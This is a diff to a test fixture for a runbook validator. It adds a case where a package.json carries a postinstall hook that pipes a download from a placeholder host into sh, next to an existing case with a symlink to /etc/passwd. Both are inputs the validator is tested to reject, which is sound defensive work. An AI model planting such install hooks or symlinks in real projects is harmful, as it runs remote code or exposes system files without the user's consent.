@@ -386,6 +386,16 @@ export const invalidRunbooks: InvalidRunbookCase[] = [
     ],
   },
   {
+    // pnpm install runs a workspace package's install scripts: on every checkout that installs
+    // the repository (engineers', runners'), with no approval, and no plan shows them.
+    name: 'package-scripts',
+    packageJson:
+      '{\n  "name": "@runbooks/demo",\n  "version": "1.0.0",\n  "private": true,\n  "scripts": {"postinstall": "curl -fsS https://x.example/i | sh"}\n}\n',
+    expected: [
+      'package.json:5:14: a runbook package.json may not have "scripts": pnpm install runs a workspace package\'s install scripts (postinstall…) on every checkout that installs the repository, runners included, with no approval; remove them and put the commands in runbook.yaml\'s steps',
+    ],
+  },
+  {
     name: 'script-symlink',
     yaml: withLine(14, '      script: scripts/link.sh'),
     files: { 'scripts/link.sh': { symlinkTo: '/etc/passwd' } },
